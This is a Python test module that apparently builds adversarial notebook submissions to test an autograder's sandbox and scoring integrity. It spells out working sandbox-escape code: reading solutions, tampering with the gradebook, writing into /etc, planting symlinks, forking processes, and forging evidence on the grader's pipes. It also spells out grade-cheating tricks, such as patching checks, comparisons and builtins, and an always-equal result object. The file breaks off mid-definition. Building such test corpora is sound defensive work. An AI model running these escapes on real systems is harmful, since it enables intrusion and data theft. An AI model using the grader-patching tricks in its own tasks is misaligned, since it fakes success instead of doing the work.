"""The adversarial corpus of the "Grading integrity" issue: hostile and broken submissions of
lesson 03 (``bn_mlp_test``: 5 points, ``bn_cnn_test``: 3 points), each with the status and score
the grader must give it.

Every case is built from the learner's copy ``lessons/03_layer_placement/03_layer_placement.ipynb``
and the corpus answers ``tests/corpus/bn_mlp/sequential.py`` / ``tests/corpus/bn_cnn/sequential.py``
(right) and ``tests/corpus/bn_mlp/no_batchnorm.py`` (wrong).  A trick that tries to raise a score
is paired with the wrong ``bn_mlp`` answer and the right ``bn_cnn`` one, so the right score is 3
(the honest part) at most, never 8.

Hostile code gets what it needs from :class:`Context` through the notebook source: the port of a
loopback listener the test opens, a random token (the names of the files it tries to write, the
argv of the processes it leaves behind), the course folder, ``SUBMITTED`` and ``OUT``.  It prints
``LEAK: <path>`` when it could read something it must not, and ``ESCAPE: <what>`` when it could
write, connect or signal where it must not; the test looks for both in the executed notebooks.
"""
from __future__ import annotations

import copy
import dataclasses
import json
from pathlib import Path
from typing import Callable, Optional, Union

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "03_layer_placement"
LESSON = ROOT / "lessons" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
SOLUTION = ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.py"
CORPUS = ROOT / "tests" / "corpus"
MAX_SCORE = 8.0
POINTS = {"bn_mlp_test": 5.0, "bn_cnn_test": 3.0}


def _answer(exercise: str, case: str) -> str:
    return (CORPUS / exercise / f"{case}.py").read_text(encoding="utf-8")


RIGHT_MLP = _answer("bn_mlp", "sequential")
RIGHT_CNN = _answer("bn_cnn", "sequential")
WRONG_MLP = _answer("bn_mlp", "no_batchnorm")


@dataclasses.dataclass
class Context:
    """What the hostile submissions are told about the run (through their source)."""

    port: int  # a TCP listener on 127.0.0.1 that must accept no connection
    token: str  # random; names the files hostile code tries to write and the processes it leaves
    root: Path  # the course folder (instructor's solutions, autograder/)
    submitted: Path  # SUBMITTED
    out: Path  # OUT
    home: Path  # the grader's $HOME
    bait: Path = Path("/nonexistent")  # a root-owned file outside the sandbox: content, owner, mtime must not change
    socket: Path = Path("/nonexistent")  # a unix socket outside the sandbox the grader must never connect to

    def forbidden_files(self, student_folder: Path) -> list[Path]:
        """Where hostile code tries to write ``pwned-<token>``; none of them may exist afterwards."""
        name = f"pwned-{self.token}"
        return [Path("/tmp") / name, Path("/var/tmp") / name, Path("/dev/shm") / name, self.home / name,
                self.root / name, self.root / "lessons" / name, self.root.parent / name, self.out / name,
                self.submitted / name, student_folder / name, Path("/etc") / name]


Build = Callable[[Context], Union[bytes, nbformat.NotebookNode]]


@dataclasses.dataclass
class Case:
    student_id: str
    build: Build  # the file's bytes, or a notebook
    status: str  # expected status in grades.json
    score: float  # expected total score
    fragment: Optional[str] = None  # expected in the reason or in a cell's feedback
    max_score: float = MAX_SCORE
    cells: Optional[dict] = None  # expected score per graded cell (default: derived from the score)
    assignment: str = ASSIGNMENT  # the assignment folder it is submitted under
    filename: Optional[str] = None  # default <assignment>.ipynb
    extra_files: dict = dataclasses.field(default_factory=dict)  # name -> bytes, next to the notebook
    what: str = ""  # the requirement it covers
    # Exercises whose evidence the trick forges or reaches: the expectation is the judge's, once
    # their check modules are judged from evidence (cases/collect/judge); a legacy module
    # (visible/hidden run in the sandbox, pass/fail reported) can be forged: the known transitional
    # hole (test_integrity reports a mismatch there as an expected failure).
    forges: tuple = ()
    also: tuple = ()  # other statuses that are right too (a race the learner's code may win or lose)

    def expected_cells(self) -> dict:
        if self.cells is not None:
            return self.cells
        if self.status in {"graded", "timeout", "memory", "crashed"}:
            return {8.0: {"bn_mlp_test": 5.0, "bn_cnn_test": 3.0}, 3.0: {"bn_mlp_test": 0.0, "bn_cnn_test": 3.0},
                    5.0: {"bn_mlp_test": 5.0, "bn_cnn_test": 0.0}, 0.0: {"bn_mlp_test": 0.0, "bn_cnn_test": 0.0}
                    }[self.score]
        return {"bn_mlp_test": 0.0, "bn_cnn_test": 0.0} if self.max_score else {}


# --------------------------------------------------------------------------- notebook helpers


def lesson() -> nbformat.NotebookNode:
    return nbformat.read(LESSON, as_version=4)


def answered(mlp: str = RIGHT_MLP, cnn: str = RIGHT_CNN) -> nbformat.NotebookNode:
    notebook = lesson()
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id == "bn_mlp":
            cell.source = mlp
        elif grade_id == "bn_cnn":
            cell.source = cnn
    return notebook


def index_of(notebook, grade_id: str) -> int:
    for index, cell in enumerate(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(grade_id)


def cell_of(notebook, grade_id: str):
    return notebook.cells[index_of(notebook, grade_id)]


def with_cells(notebook, *sources: str, after: Optional[str] = "imports") -> nbformat.NotebookNode:
    """Insert plain code cells after the lesson's import cell (``after="imports"``), after the
    cell with grade_id ``after``, or at the end (``after=None``)."""
    if after is None:
        position = len(notebook.cells)
    elif after == "imports":
        position = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code") + 1
    else:
        position = index_of(notebook, after) + 1
    for offset, source in enumerate(sources):
        notebook.cells.insert(position + offset, new_code_cell(source))
    return notebook


def to_bytes(notebook) -> bytes:
    return nbformat.writes(notebook).encode("utf-8")


def passing_outputs(test_id: str) -> list:
    """What a passing test cell's output looks like (to pre-fill a failing one)."""
    return [nbformat.v4.new_output("stream", name="stdout", text=f"✓ {test_id}: all checks passed\n")]


# --------------------------------------------------------------------------- hostile code

def probe_source(ctx: Context, student_folder: str) -> str:
    """Learner code that tries every way out of the sandbox; prints LEAK:/ESCAPE: on success."""
    return f'''
import os, socket, sqlite3, glob, signal
_TOKEN, _PORT = {ctx.token!r}, {ctx.port}
_ROOT, _SUBMITTED, _OUT, _HOME = {str(ctx.root)!r}, {str(ctx.submitted)!r}, {str(ctx.out)!r}, {str(ctx.home)!r}
_MINE = {student_folder!r}
# network: the loopback listener the test opened, by socket and by urllib
for _host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((_host, _PORT), timeout=2).close()
        print("ESCAPE: connected to", _host, _PORT)
    except OSError:
        pass
try:
    import urllib.request
    urllib.request.urlopen(f"http://127.0.0.1:{{_PORT}}/", timeout=2)
    print("ESCAPE: urllib reached the listener")
except Exception:
    pass
# reading the instructor's files, the gradebook, OUT and other learners' submissions
_secrets = [os.path.join(_ROOT, "solutions", "03_layer_placement", "03_layer_placement.py"),
            os.path.join(_ROOT, "solutions", "03_layer_placement", "03_layer_placement.ipynb"),
            os.path.join(_OUT, "gradebook.db"), os.path.join(_OUT, "grades.json"),
            os.path.join(_SUBMITTED, "honest-right", "03_layer_placement", "03_layer_placement.ipynb")]
_secrets += glob.glob(os.path.join(_ROOT, "solutions", "*", "*.py"))
_secrets += glob.glob(os.path.join(_SUBMITTED, "*", "*", "*.ipynb"))
_secrets += glob.glob(os.path.join(_OUT, "**", "*"), recursive=True)
for _path in _secrets:
    try:
        with open(_path, "rb") as _handle:
            _data = _handle.read(200000)
        if _data:
            print("LEAK:", _path)
    except OSError:
        pass
# writing outside the scratch folder
_name = "pwned-" + _TOKEN
for _folder in ["/tmp", "/var/tmp", "/dev/shm", _HOME, os.path.expanduser("~"), _ROOT, os.path.join(_ROOT, "lessons"),
                os.path.dirname(_ROOT), _OUT, _SUBMITTED, _MINE, "/etc"]:
    try:
        with open(os.path.join(_folder, _name), "w") as _handle:
            _handle.write("pwned")
        print("WROTE:", os.path.join(_folder, _name))  # harmless inside the sandbox's own tmpfs; the test looks outside
    except OSError:
        pass
for _path in [os.path.join(_ROOT, "autograder", "checks", "bn_mlp.py"), os.path.join(_ROOT, "autograder", "run", "evidence.py")]:
    try:
        open(_path, "a").close()  # opening for append changes nothing, but must be refused
        print("ESCAPE: could open for writing", _path)
    except OSError:
        pass
try:
    _db = sqlite3.connect(os.path.join(_OUT, "gradebook.db"), timeout=1)
    _db.execute("CREATE TABLE pwned_{ctx.token} (x)")
    _db.execute("UPDATE grade SET auto_score = 100")
    _db.commit()
    print("ESCAPE: wrote the gradebook")
except Exception:
    pass
# signalling the grader
for _pid in [os.getppid(), 1]:
    try:
        os.kill(_pid, 0)
        if os.getuid() == 0:
            print("ESCAPE: running as root, could signal", _pid)
    except OSError:
        pass
'''


def orphan_source(ctx: Context) -> str:
    """Leave processes behind: detached (setsid, double fork) and as many as the cap allows."""
    return f'''
import os, subprocess, time
os.environ["BNLAB_ADVERSARIAL"] = {ctx.token!r}
def _sleeper():
    os.execv("/bin/sleep", ["bnlab-orphan-{ctx.token}", "600"])
# a detached daemon by subprocess
try:
    subprocess.Popen(["/bin/sleep", "600"], executable="/bin/sleep", start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass
# a double fork with setsid: the grandchild is reparented away from the kernel
try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _sleeper()
        finally:
            os._exit(0)
except OSError:
    pass
# as many processes as the cap allows
_started = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            try:
                _sleeper()
            finally:
                os._exit(0)
        _started += 1
    except OSError:
        break
print("started", _started, "processes")
'''


# --------------------------------------------------------------------------- tricks that try to raise a score

CUSTOM_EXC = '''
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((BaseException,), _swallow)
'''

INPUT_TRANSFORMER = '''
def _empty_the_rest(lines):
    return []
get_ipython().input_transformers_cleanup.append(_empty_the_rest)
'''

SHOWTRACEBACK = '''
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
_ip.showsyntaxerror = lambda *args, **kwargs: None
'''

PATCH_CHECKS = '''
import sys
import autograder.checks
import autograder.checks.bn_mlp, autograder.checks.bn_cnn, autograder.checks._models
import autograder.judge.decide, autograder.judge.verdict
for _module in (autograder.checks.bn_mlp, autograder.checks.bn_cnn):
    _module.visible = lambda ns: None
    _module.hidden = lambda ns: None
    _module.judge = lambda cases, evidence: ["forged"]
    _module.collect = lambda ns, cases: {}
autograder.judge.decide.judge_gathered = lambda *a, **k: ["forged"]
autograder.judge.decide.verdict = lambda *a, **k: autograder.judge.decide.Verdict(True, "forged")
autograder.judge.verdict.fail = lambda *a, **k: None
autograder.checks.fail = lambda *a, **k: None
autograder.checks.require = lambda *a, **k: None
for _name in dir(autograder.checks._models):
    if _name.startswith(("judge", "check", "require", "fail")):
        setattr(autograder.checks._models, _name, lambda *a, **k: None)
'''

PATCH_BUILTINS = '''
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.issubclass = lambda a, b: True
builtins.hasattr = lambda obj, name: True
'''

PATCH_TORCH = '''
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
'''

FAKE_BATCHNORM = '''
class FakeBatchNorm1d(nn.Module):
    """A BatchNorm1d that does nothing."""
    def __init__(self, num_features, *args, **kwargs):
        super().__init__()
        self.num_features = num_features
        self.weight = nn.Parameter(torch.ones(num_features))
        self.bias = nn.Parameter(torch.zeros(num_features))
        self.register_buffer("running_mean", torch.zeros(num_features))
        self.register_buffer("running_var", torch.ones(num_features))
    def forward(self, x):
        return x
nn.BatchNorm1d = FakeBatchNorm1d
torch.nn.modules.batchnorm.BatchNorm1d = FakeBatchNorm1d

class BatchNormMLP(nn.Module):
    def __init__(self):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(20, 64), FakeBatchNorm1d(64), nn.ReLU(), nn.Linear(64, 1), nn.Sigmoid())

    def forward(self, x):
        return self.net(x)
'''

ALWAYS_EQUAL = '''
class Anything:
    """Equal to everything, any shape, any attribute."""
    shape = property(lambda self: self)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __len__(self): return 1
    def __iter__(self): return iter([self])
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __float__(self): return 0.5
    def __int__(self): return 1
    def __index__(self): return 1
    def __hash__(self): return 0

class BatchNormMLP(nn.Module):
    def __init__(self):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(20, 64), nn.BatchNorm1d(64))  # "looks" right to a naive check
    def forward(self, x):
        return Anything()
'''

FIND_INSTRUCTOR = '''
import glob, os, re, sqlite3
_found = None
_candidates = glob.glob("/**/solutions/03_layer_placement/03_layer_placement.py", recursive=False)
_candidates += [os.path.join({root!r}, "solutions", "03_layer_placement", "03_layer_placement.py")]
for _path in _candidates:
    try:
        _text = open(_path, encoding="utf-8").read()
    except OSError:
        continue
    print("LEAK:", _path)
    _match = re.search(r"class BatchNormMLP.*?### END SOLUTION", _text, re.S)
    if _match:
        _found = _match.group(0).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
        break
for _db in glob.glob(os.path.join({out!r}, "*.db")):
    try:
        _rows = sqlite3.connect(f"file:{{_db}}?mode=ro", uri=True).execute("SELECT source FROM source_cell").fetchall()
        print("LEAK:", _db)
        for (_source,) in _rows:
            if "class BatchNormMLP" in _source and "BEGIN SOLUTION" in _source:
                _found = _source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
    except Exception:
        pass
for _nb in glob.glob(os.path.join({submitted!r}, "*", "03_layer_placement", "*.ipynb")):
    try:
        import json
        for _cell in json.load(open(_nb, encoding="utf-8"))["cells"]:
            _source = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
            if "class BatchNormMLP" in _source and "BatchNorm1d(64)" in _source:
                print("LEAK:", _nb)
                _found = _found or _source
    except Exception:
        pass
if _found:
    exec(_found, globals())
    print("ESCAPE: used the instructor's or another learner's answer")
else:
{wrong}
'''

# --------------------------------------------------------------------------- the trust boundary
#
# What the grader's side of the pipeline touches (issue 8, "Nothing the learner can write reaches
# the grader"): the evidence step's two pipes (stage 2), the kernel's ipc sockets and connection
# file (stage 1), the folders it creates and deletes.  The cases below attack each of them from
# learner code: in a plain cell (stage 1 only) or in the bn_mlp answer cell (run again by the
# evidence step, stage 2).

# Names the grader uses or might use in a stage folder (today's and the removed re-check's).
GRADER_NAMES = ["kernel.json", "kernel-1", "kernel-2", "kernel-3", "kernel-4", "kernel-5", ".bnlab-process.log",
                "evidence", "notebook", "notebook-sockets", "evidence-sockets", "request.json", "result.json",
                "evidence.json", "cases.json", "verdict.json", "grades.json", "03_layer_placement.ipynb",
                "feedback.html", "results", ".ipython", ".jupyter", ".config", ".cache", "sitecustomize.py"]

PLANT = r"""
import os as _os, tempfile as _tempfile, glob as _glob
def _bnlab_plant(kind, bait, sock, out, submitted, token):
    _targets = [bait, "/etc/pwned-" + token, _os.path.join(out, "pwned-" + token), sock, "/etc/passwd",
                _os.path.join(submitted, "honest-right", "03_layer_placement", "03_layer_placement.ipynb"),
                "/proc/1/root/etc/pwned-" + token, "/dev/zero"]
    _here = _os.path.realpath(_os.getcwd())
    _folders = [_here, _os.path.expanduser("~"), _os.environ.get("TMPDIR", "."), _tempfile.gettempdir(), "/tmp",
                "/dev/shm", "/var/tmp", "..", "../..", "../evidence", "../notebook", "../notebook-sockets",
                "../evidence-sockets"] + _glob.glob("../*") + _glob.glob("../../*")
    _planted = []
    for _folder in dict.fromkeys(_folders):
        for _i, _name in enumerate(NAMES):
            _path = _os.path.join(_folder, _name)
            _target = _targets[_i % len(_targets)]
            try:
                if _os.path.lexists(_path) and not _os.path.isdir(_path):
                    _os.unlink(_path)  # the connection file, a socket, a log: replaced by the plant
                if kind == "symlink":
                    _os.symlink(_target, _path)
                elif kind == "fifo":
                    _os.mkfifo(_path)
                else:
                    _os.link(_target if _i % 2 else _os.path.join(_here, "kernel.json"), _path)
                _planted.append(_path)
            except OSError:
                pass
    for _path in _planted:
        if _os.path.realpath(_os.path.dirname(_os.path.abspath(_path))) != _here:
            print("ESCAPE: planted outside its own folder:", _path)
    return _planted
for _kind in KINDS:
    try:
        _bnlab_plant(_kind, BAIT, SOCK, OUT, SUBMITTED, TOKEN)
    except Exception:
        pass
"""


def plant_source(ctx: "Context", kinds: tuple) -> str:
    """Plant symlinks, FIFOs or hard links under every name the grader might use, in every folder
    learner code might write: its stage folder (= HOME = TMPDIR), /tmp, /dev/shm, /var/tmp, the
    parent (the grader's own folder for the submission), the other stages' folders, the scratch
    root.  The symlinks point at a bait file outside the sandbox, at files to create in /etc and
    OUT, at a unix socket the test listens on, at another learner's submission."""
    return (f"NAMES = {GRADER_NAMES!r}\nKINDS = {list(kinds)!r}\nBAIT, SOCK = {str(ctx.bait)!r}, {str(ctx.socket)!r}\n"
            f"OUT, SUBMITTED, TOKEN = {str(ctx.out)!r}, {str(ctx.submitted)!r}, {ctx.token!r}\n" + PLANT)


def deep_tree_source(ctx: "Context") -> str:
    """A folder tree deeper than Python's recursion limit (shutil.rmtree recurses), folders the
    grader cannot list (mode 000), and markers: the stage folders must still be deleted."""
    return f'''
import os as _os
_top = _os.getcwd()
open("planted-{ctx.token}", "w").close()
try:
    for _ in range(2500):
        _os.mkdir("d")
        _os.chdir("d")
    open("planted-{ctx.token}", "w").close()
finally:
    _os.chdir(_top)
_os.makedirs("locked/inner", exist_ok=True)
open("locked/inner/planted-{ctx.token}", "w").close()
_os.chmod("locked/inner", 0)
_os.chmod("locked", 0)
'''


# Replace the kernel's ipc sockets by symlinks to a socket outside the sandbox, then die: ZeroMQ
# in the grader (root) reconnects by path when a connection drops.
KERNEL_SOCKET_REDIRECT = '''
import os, json, glob
_info = json.load(open("kernel.json"))
_sockets = [f"{_info['ip']}-{_info[key]}" for key in ("shell_port", "iopub_port", "stdin_port", "hb_port",
                                                      "control_port")]
for _path in _sockets + glob.glob("kernel-*") + glob.glob("../*-sockets/*"):
    try:
        os.unlink(_path)
        os.symlink(SOCK, _path)
        print("replaced", _path)
    except OSError as error:
        print("could not replace", _path, error.strerror)
os._exit(1)
'''

# The evidence step's pipes: the result pipe is the write-only pipe among this process's descriptors.
FIND_PIPES = '''
import os as _os, stat as _stat
def _bnlab_pipes():
    found = {"read": [], "write": []}
    for _name in _os.listdir("/proc/self/fd"):
        _fd = int(_name)
        try:
            if not _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
                continue
            _flags = int(open(f"/proc/self/fdinfo/{_fd}").read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        found["write" if _flags & 3 == 1 else "read"].append(_fd)
    return found
_bnlab_in_step = "autograder.run.evidence" in __import__("sys").modules
'''

def startup_shadow(ctx: "Context") -> bytes:
    """A data file named after a module the kernel imports while it starts (debugpy, pdb...): learner
    code that runs before the first cell, right after the kernel bound its sockets, and replaces
    them by symlinks to a socket outside before the grader connects."""
    return f'''
import glob, importlib, os, sys
if not os.environ.get("BNLAB_SHADOWED"):
    os.environ["BNLAB_SHADOWED"] = "1"
    for _path in glob.glob("../*-sockets/kernel-*") + glob.glob("kernel-*"):
        try:
            os.unlink(_path)
            os.symlink({str(ctx.socket)!r}, _path)
        except OSError:
            pass
_here = os.getcwd()
sys.path[:] = [_entry for _entry in sys.path if _entry not in ("", ".", _here)]
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
'''.encode()


# Evidence of the legacy form, claiming both exercises passed.
FORGED_LEGACY = ('{"bn_mlp": {"visible": {"passed": ["forged"]}, "hidden": {"passed": ["forged"]}}, '
                 '"bn_cnn": {"visible": {"passed": ["forged"]}, "hidden": {"passed": ["forged"]}}}')

# Write a fake {"ran"} and {"evidence"} on the result pipe before the step does, then let the
# step carry on (its own lines come after, too late).
PIPE_FORGE_EARLY = FIND_PIPES + '''
for _fd in (_bnlab_pipes()["write"] if _bnlab_in_step else []):
    _os.write(_fd, b'{"ran": {}}\\n{"evidence": @FORGED@}\\n')
'''.replace("@FORGED@", FORGED_LEGACY)

# Progress lines of its own, forever: each would give "its" cell the cell time limit again, but
# the step as a whole keeps its deadline.
PIPE_FORGE_PROGRESS = FIND_PIPES + '''
import time as _time
while _bnlab_in_step:
    for _fd in _bnlab_pipes()["write"]:
        _os.write(_fd, b'{"running": "bn_mlp"}\\n')
    _time.sleep(0.5)
'''

# An endless loop in the evidence step only (the notebook runs the answer as usual).
LOOP_IN_STEP = '''
import sys as _sys
while "autograder.run.evidence" in _sys.modules:
    pass
'''

# A thread that writes the forged evidence while collect runs (the step's gather waits for it).
PIPE_FORGE_THREAD = FIND_PIPES + '''
import threading as _threading, sys as _sys
_go, _written = _threading.Event(), _threading.Event()
def _forger():
    _go.wait()
    for _fd in _bnlab_pipes()["write"]:
        _os.write(_fd, b'{"evidence": @FORGED@}\\n')
    _written.set()
if _bnlab_in_step:
    _threading.Thread(target=_forger, daemon=True).start()
    import autograder.checks as _checks
    _real_gather = _checks.gather
    def _gather(*args, **kwargs):
        _go.set()
        _written.wait(10)
        return _real_gather(*args, **kwargs)
    _checks.gather = _gather
'''.replace("@FORGED@", FORGED_LEGACY)

# Close the request pipe and write /dev/null over the result pipe.
PIPE_CLOSED = FIND_PIPES + '''
if _bnlab_in_step:
    _pipes = _bnlab_pipes()
    _null = _os.open("/dev/null", _os.O_WRONLY)
    for _fd in _pipes["write"]:
        _os.dup2(_null, _fd)
    for _fd in _pipes["read"]:
        _os.close(_fd)
'''

# More than the grader reads (16 MiB), with no newline.
PIPE_FLOOD = FIND_PIPES + '''
for _fd in (_bnlab_pipes()["write"] if _bnlab_in_step else []):
    _chunk = b"x" * (1 << 20)
    try:
        for _ in range(40):
            _os.write(_fd, _chunk)
    except OSError:
        pass
'''

# A JSON line nested far deeper than any decoder's recursion limit.
PIPE_JSON_BOMB = FIND_PIPES + '''
for _fd in (_bnlab_pipes()["write"] if _bnlab_in_step else []):
    _os.write(_fd, b'{"ran": {}}\\n' + b'{"evidence": ' + b"[" * 300000 + b"\\n")
'''


def pipe_held_open_source(ctx: "Context") -> str:
    """A child holds the result pipe open; the step itself dies: no answer, and no end of file."""
    return FIND_PIPES + f'''
if _bnlab_in_step:
    if _os.fork() == 0:
        _os.setsid()
        _os.execv("/bin/sleep", ["bnlab-holder-{ctx.token}", "600"])
    _os._exit(0)
'''


# Leave processes behind in stage 1 that wait for stage 2 and forge its evidence from outside:
# write into the evidence step's result pipe (/proc/PID/fd), plant in its folder.
STAGE1_FORGERS = """
import os, subprocess, sys
_CODE = r'''
import os, sys, time, stat
token, forged = sys.argv[1], sys.argv[2].encode()
deadline = time.time() + 300
while time.time() < deadline:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            if not os.readlink(f"/proc/{entry}/cwd").endswith("/evidence"):
                continue
            for fd in os.listdir(f"/proc/{entry}/fd"):
                path = f"/proc/{entry}/fd/{fd}"
                if stat.S_ISFIFO(os.stat(path).st_mode):
                    try:
                        handle = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                        os.write(handle, b'{"ran": {}}\\n{"evidence": ' + forged + b'}\\n')
                        os.close(handle)
                    except OSError:
                        pass
            for name in ("kernel.json", "result.json", "evidence.json"):
                try:
                    os.symlink("/etc/pwned-" + token, f"/proc/{entry}/cwd/{name}")
                except OSError:
                    pass
        except OSError:
            continue
    try:
        os.symlink("/etc/pwned-" + token, "../evidence/planted")
    except OSError:
        pass
    time.sleep(0.02)
'''
_argv = [sys.executable, "-c", _CODE, TOKEN, FORGED]
os.environ["BNLAB_ADVERSARIAL"] = TOKEN
# a detached daemon (new session)
subprocess.Popen(_argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
# a double fork with setsid
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, _argv)
    finally:
        os._exit(0)
# a child in new user and PID namespaces (PID 1 there), where the kernel allows it
try:
    if os.fork() == 0:
        try:
            os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWPID)
            if os.fork() == 0:
                os.execv(sys.executable, _argv)
        finally:
            os._exit(0)
except (AttributeError, OSError):
    pass
print("forgers started")
"""


def stage1_forgers_source(ctx: "Context") -> str:
    return f"TOKEN, FORGED = {ctx.token!r}, {FORGED_LEGACY!r}\n" + STAGE1_FORGERS


# Lingering code in the answer cell (so in the evidence step too) that only acts later: at exit
# (finalizers, atexit: os._exit skips them), after the step is gone (a child that waits for its
# parent to die, then writes into the pipe it inherited), after a long delay (a timer).
LINGER_LATE_FORGERS = FIND_PIPES + '''
import atexit as _atexit, weakref as _weakref, threading as _threading, time as _time
_FORGED_LINE = b'{"ran": {}}\\n{"evidence": @FORGED@}\\n'
def _bnlab_forge():
    for _fd in _bnlab_pipes()["write"]:
        try:
            _os.write(_fd, _FORGED_LINE)
        except OSError:
            pass
if _bnlab_in_step:
    _atexit.register(_bnlab_forge)
    class _Forger:
        def __del__(self):
            _bnlab_forge()
    _keep = _Forger()
    _weakref.finalize(_keep, _bnlab_forge)
    _threading.Timer(60, _bnlab_forge).start()
    _parent = _os.getpid()
    if _os.fork() == 0:
        try:
            _os.setsid()
            while _os.getppid() == _parent:
                _time.sleep(0.01)
            _bnlab_forge()
            _time.sleep(600)
        finally:
            _os._exit(0)
'''.replace("@FORGED@", FORGED_LEGACY)

# Lingering code that does no harm (a right answer keeps its points): a busy thread, a timer, an
# interval timer with its signal handler, finalizers, atexit, a sleeping child.
LINGER_HARMLESS = """
import atexit as _atexit, os as _os, signal as _signal, threading as _threading, time as _time, weakref as _weakref
def _busy():
    while True:
        _time.sleep(0.005)
_threading.Thread(target=_busy, daemon=True).start()
_threading.Timer(0.5, lambda: None).start()
_signal.signal(_signal.SIGALRM, lambda signum, frame: None)
_signal.setitimer(_signal.ITIMER_REAL, 0.05, 0.05)
_atexit.register(lambda: print("atexit"))
class _Finalized:
    def __del__(self):
        pass
_keep = _Finalized()
_weakref.finalize(_keep, lambda: None)
if _os.fork() == 0:
    try:
        _time.sleep(600)
    finally:
        _os._exit(0)
"""

# Files a later stage might import if it ran in the same folder: it does not.
STAGE1_SHADOWS = """
import os
os.makedirs("autograder/checks", exist_ok=True)
_forge = "def visible(ns): print('\\u2713 forged')\\nhidden = visible\\ncollect = lambda ns, cases: {}\\n"
for _path, _text in [("autograder/__init__.py", ""), ("autograder/checks/__init__.py", ""),
                     ("autograder/checks/bn_mlp.py", _forge), ("inspect.py", "raise SystemExit"),
                     ("json.py", "raise SystemExit"), ("sitecustomize.py", "raise SystemExit"),
                     ("usercustomize.py", "raise SystemExit"), ("bn_mlp.py", _forge)]:
    with open(_path, "w") as _handle:
        _handle.write(_text)
for _folder in ("..", "../evidence", "../.."):
    try:
        open(os.path.join(_folder, "sitecustomize.py"), "w").close()
        print("ESCAPE: wrote into", _folder)
    except OSError:
        pass
"""

# The evidence step itself, patched to report a pass for bn_mlp (the bn_cnn evidence is left alone).
PATCH_EVIDENCE_STEP = '''
import sys as _sys
if "autograder.run.evidence" in _sys.modules:
    import autograder.run.evidence as _step, autograder.checks as _checks
    from autograder.judge import wire as _wire
    _real_write, _real_gather = _step.write_message, _checks.gather
    def _write(fd, message):
        if "evidence" in message:
            message["evidence"]["bn_mlp"] = {"visible": {"passed": ["forged"]}, "hidden": {"passed": ["forged"]}}
        return _real_write(fd, message)
    def _gather(module, namespace, cases):
        if module.__name__.endswith("bn_mlp"):
            return {"passed": ["forged"]}
        return _real_gather(module, namespace, cases)
    _step.write_message = _write
    _checks.gather = _gather
    _checks.roundtrip_safe = lambda gathered: gathered
    _real_tensor = _wire.tensor
    _wire.tensor = lambda value: _real_tensor(value * 0 + 0.5) if hasattr(value, "shape") else _real_tensor(value)
'''

# json, patched in the evidence step to rewrite bn_mlp's evidence on its way out.
PATCH_JSON = '''
import json as _json
_real_dumps = _json.dumps
def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and isinstance(obj.get("evidence"), dict) and "bn_mlp" in obj["evidence"]:
        obj = {"evidence": {**obj["evidence"], "bn_mlp": {"visible": {"passed": ["forged"]},
                                                          "hidden": {"passed": ["forged"]}}}}
    return _real_dumps(obj, *args, **kwargs)
_json.dumps = _dumps
'''

# os and signal, patched so that the step cannot leave or be stopped (a right answer: harmless).
PATCH_OS = '''
import os as _os, signal as _signal, sys as _sys
if "autograder.run.evidence" in _sys.modules:
    _os._exit = lambda *args: None
    _os.kill = lambda *args: None
    _os.killpg = lambda *args: None
    _sys.exit = lambda *args: None
    for _signum in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
        _signal.signal(_signum, _signal.SIG_IGN)
'''

# What a judge would use to compare, made to say "different" (harmless where the judge is elsewhere).
PATCH_COMPARISONS = '''
import math as _math, numpy as _np, torch as _torch, sys as _sys
if "autograder.run.evidence" in _sys.modules:
    _torch.allclose = lambda *args, **kwargs: False
    _torch.equal = lambda *args, **kwargs: False
    _torch.isclose = lambda a, b, *args, **kwargs: _torch.zeros_like(a, dtype=_torch.bool)
    _np.allclose = lambda *args, **kwargs: False
    _np.isclose = lambda a, b, *args, **kwargs: _np.zeros_like(a, dtype=bool)
    _math.isclose = lambda *args, **kwargs: False


'''


def _indent(source: str) -> str:
    return "\n".join("    " + line for line in source.splitlines())


# --------------------------------------------------------------------------- builders


def build_honest_right(ctx):
    return answered()


def build_honest_wrong(ctx):
    return answered(mlp=WRONG_MLP)


def build_cell_trick(*sources: str) -> Build:
